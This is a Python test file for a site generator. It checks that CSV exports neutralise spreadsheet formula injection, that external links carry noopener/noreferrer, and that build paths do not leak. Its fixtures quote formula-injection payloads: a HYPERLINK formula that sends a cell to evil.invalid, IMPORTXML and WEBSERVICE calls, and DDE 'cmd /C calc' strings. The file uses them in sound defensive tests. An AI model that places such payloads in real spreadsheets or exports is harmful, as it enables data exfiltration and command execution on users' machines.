"""Hostile content in what the site publishes (issue 13): CSV cells that a spreadsheet would run as
formulas, and links to other sites, which all carry the same attributes (one Jinja macro).

The length bounds of the content are tested with the other validation errors (tests/test_validation.py).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import CONTENT, FIXTURES
from site_html import html_files, parse

from generator.model.load import load_cartography
from generator.site.exports import CSV_SAFETY_NOTE, FORMULA_TRIGGERS, csv_cell, export_files

HOSTILE = FIXTURES / "safety" / "hostile.yaml"


# --- CSV injection ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory) -> dict[str, bytes]:
    """donnees/* of the real content plus the fiche of fixtures/safety/hostile.yaml."""
    content = tmp_path_factory.mktemp("hostile") / "content"
    shutil.copytree(CONTENT, content)
    shutil.copy(HOSTILE, content / "operators" / "hostile.yaml")
    carto = load_cartography(content)
    return {file.path.removeprefix("donnees/"): file.as_bytes() for file in export_files(carto)}


def _rows(exports: dict[str, bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exports["operateurs.csv"].decode("utf-8"), newline="")))


def _hostile_row(exports: dict[str, bytes]) -> dict[str, str]:
    return next(row for row in _rows(exports) if row["id"] == "hostile")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(trigger):
    assert csv_cell(trigger + "1+1") == "'" + trigger + "1+1"
    assert trigger in FORMULA_TRIGGERS


@pytest.mark.parametrize("value", ["", "Service", "1+1", "'=déjà neutralisé", " =1", "a=1", "https://x.be/?a=-1"])
def test_other_cells_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_no_cell_of_the_csv_starts_like_a_formula(hostile_exports):
    rows = _rows(hostile_exports)
    assert any(row["id"] == "hostile" for row in rows)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_TRIGGERS), f"{row['id']}.{column} : {cell[:40]!r}"


def test_hostile_cells_are_prefixed_and_read_back_as_text(hostile_exports):
    row = _hostile_row(hostile_exports)
    # every kind of column: identity, element made of parts, derived (preferred contact), sources
    assert row["nom"] == "'=HYPERLINK(\"https://evil.invalid/?\"&A1;\"Cliquez ici\")"
    assert row["sigle"] == "'+SUM(1+1)"
    assert row["resume"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["missions"].startswith("'@SUM(1+1)*cmd|' /C calc'!A0 | ")
    assert row["interaction"].startswith("'=IMPORTXML(")
    assert row["a_prevoir"] == "'-1+1"
    assert row["contact_prefere"] == "'+32 81 33 44 70"  # a telephone number too: OWASP's rule, documented
    assert row["sources"].startswith("'=WEBSERVICE(")
    # not at the start of the cell: unchanged
    assert row["interventions"] == "Support technique : =1+1"
    assert row["site_web"] == "https://www.example.be/service"


def test_every_cell_is_quoted_and_quotes_are_doubled(hostile_exports):
    """RFC 4180, every cell quoted and its quotes doubled: then « ;=1+1 » stays inside its cell even for a
    spreadsheet that splits on « ; » (French Excel), and cannot start a cell of its own."""
    text = hostile_exports["operateurs.csv"].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    quoted = io.StringIO()
    csv.writer(quoted, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert text == quoted.getvalue()
    assert '"\'=HYPERLINK(""https://evil.invalid/?""&A1;""Cliquez ici"")"' in text
    assert '| Un texte ordinaire;=1+1 au milieu, et des ""guillemets"".",' in text


def test_json_keeps_the_editors_text_exactly(hostile_exports):
    record = next(r for r in json.loads(hostile_exports["operateurs.json"]) if r["id"] == "hostile")
    assert record["nom"] == '=HYPERLINK("https://evil.invalid/?"&A1;"Cliquez ici")'
    assert record["sigle"] == "+SUM(1+1)"
    assert record["resume"] == "-2+3+cmd|' /C calc'!A0"
    assert record["missions"][0] == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert record["a_prevoir"] == ["-1+1"]
    assert record["contacts"][0]["valeur"] == "+32 81 33 44 70"
    assert record["interaction"]["mode"] == '=IMPORTXML("https://evil.invalid";"//a")'
    assert "'" + record["nom"] not in hostile_exports["operateurs.json"].decode("utf-8")


def test_datapackage_says_how_the_csv_is_protected(hostile_exports):
    package = json.loads(hostile_exports["datapackage.json"])
    (resource,) = [r for r in package["resources"] if r["path"] == "operateurs.csv"]
    assert CSV_SAFETY_NOTE in resource["description"]
    assert "apostrophe" in resource["description"] and "formule" in resource["description"]
    data = hostile_exports["operateurs.csv"]
    assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest() and resource["bytes"] == len(data)


def test_data_page_documents_the_apostrophe(built_site):
    html = (built_site / "donnees" / "index.html").read_text(encoding="utf-8")
    assert "guillemets doubles autour de chaque valeur" in html
    assert "précédée d&#39;une apostrophe" in html and "+32…" in html


# --- Links to other sites ------------------------------------------------------------------------


class _Anchors(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.anchors: list[dict[str, str]] = []

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.anchors.append({k: v or "" for k, v in attrs})


def _macro_anchor(**options) -> dict[str, str]:
    """What the macro writes, rendered by the site's own Jinja environment."""
    from generator.render.templates import make_environment

    env = make_environment()
    template = env.from_string(
        '{% from "_macros/links.html" import external %}{{ external("https://example.invalid/", "texte", **options) }}'
    )
    parser = _Anchors()
    parser.feed(template.render(options=options))
    (anchor,) = parser.anchors
    return anchor


def test_the_macro_writes_noopener_noreferrer_and_keeps_extra_tokens():
    assert _macro_anchor() == {"href": "https://example.invalid/", "rel": "noopener noreferrer"}
    assert _macro_anchor(**{"class": "url-shown"})["class"] == "url-shown"
    assert _macro_anchor(rel="license")["rel"] == "license noopener noreferrer"


def _is_external(href: str, own_host: str | None = None) -> bool:
    parts = urlsplit(href)
    return parts.scheme in ("http", "https") and parts.hostname != own_host


#: What a link to another site may carry besides href: the macro's rel (with « license » where the
#: page links to the licence) and class="url-shown"; a Markdown link (nh3) the same rel and a title.
ALLOWED_ATTRIBUTES = {"href", "rel", "class", "title"}


def test_every_link_to_another_site_carries_the_macros_attributes(built_site):
    rel = _macro_anchor()["rel"].split()
    beyond_licence: dict[str, int] = {}  # kind of page -> links to other sites besides the licence's
    for path in html_files(built_site):
        doc = parse(built_site, path)
        external = [link for link in doc.links if link.tag == "a" and _is_external(link.value)]
        assert external, f"{path} : aucun lien vers un autre site (pas même la licence du pied de page ?)"
        for link in external:
            where = f"{path} : {link.value}"
            assert set(link.attrs) <= ALLOWED_ATTRIBUTES, f"{where} : attributs {sorted(link.attrs)}"
            tokens = link.attrs.get("rel", "").split()
            assert tokens in (rel, ["license", *rel]), f"{where} : rel « {link.attrs.get('rel')} »"
            assert link.attrs.get("class", "url-shown") == "url-shown", where
            if "license" not in tokens:
                kind = "orientation/resultat" if path.startswith("orientation/resultat/") else path.split("/")[0]
                beyond_licence[kind] = beyond_licence.get(kind, 0) + 1
    # every kind of page that links elsewhere: fiches (site, contacts, sources), results (contacts),
    # programmes (sources, Markdown), the data page, the print booklet
    for kind in ("operateurs", "orientation/resultat", "projets", "donnees", "imprimer"):
        assert beyond_licence.get(kind), f"aucun lien vers un autre site dans {kind}/ : {beyond_licence}"


def test_contacts_use_the_macro_on_fiches_and_result_pages(built_site):
    """mailto: and tel: of a fiche's contacts too: the same macro, on the fiche and on the result page."""
    rel = _macro_anchor()["rel"]
    seen = {"fiche": 0, "resultat": 0}
    for path in html_files(built_site):
        if not (path.startswith("operateurs/") or path.startswith("orientation/resultat/")):
            continue
        doc = parse(built_site, path)
        for marker, kind in (("contacts", "fiche"), ("orientation-result__facts", "resultat")):
            for link in doc.links_in(marker):
                if link.tag == "a":
                    assert link.attrs.get("rel") == rel, f"{path} : {link.value} rel « {link.attrs.get('rel')} »"
                    seen[kind] += 1
    assert seen["fiche"] and seen["resultat"], seen


def test_a_link_to_the_sites_own_host_is_not_counted_as_external():
    assert not _is_external("https://exemple.invalid/carto/operateurs/", own_host="exemple.invalid")
    assert _is_external("https://autre.invalid/", own_host="exemple.invalid")
    assert not _is_external("mailto:x@exemple.invalid") and not _is_external("../operateurs/")


def test_templates_write_links_to_content_addresses_only_through_the_macro():
    """No <a href="{{ … }}"> left in a template whose address comes from the content (or another site)."""
    import re

    templates = Path(__file__).resolve().parent.parent / "themes" / "default" / "templates"
    offenders = []
    for path in sorted(templates.rglob("*.html")):
        if path.relative_to(templates).as_posix() == "_macros/links.html":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            for match in re.finditer(r'<a\b[^>]*\bhref="([^"]*)"', line):
                href = match.group(1)
                internal = (
                    "|rel" in href
                    or href.startswith("#")
                    or "report_mailto" in href
                    or href.startswith("mailto:{{ site.email_editeurs }}")
                )
                if not internal:
                    offenders.append(f"{path.relative_to(templates)}:{number}: {href}")
    assert not offenders, "liens à écrire avec la macro external() :\n" + "\n".join(offenders)


# --- Paths of the builder's machine ------------------------------------------------------------


def test_no_page_publishes_where_the_builder_keeps_the_content(tmp_path, monkeypatch):
    """Built from another folder with an absolute --content, the editors' page names each fiche
    by its path in the content folder, never by a path of the machine that built it."""
    from generator.build import build_site

    content = tmp_path / "chez-alice" / "depot" / "content"
    shutil.copytree(CONTENT, content)
    elsewhere = tmp_path / "ailleurs"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    out = tmp_path / "site"
    build_site(content.resolve(), out)
    editors = (out / "editeurs" / "index.html").read_text(encoding="utf-8")
    assert "content/operators/sgne.yaml" in editors
    for page in out.rglob("*"):
        if page.is_file():
            text = page.read_bytes()
            assert b"chez-alice" not in text and str(tmp_path).encode() not in text, page
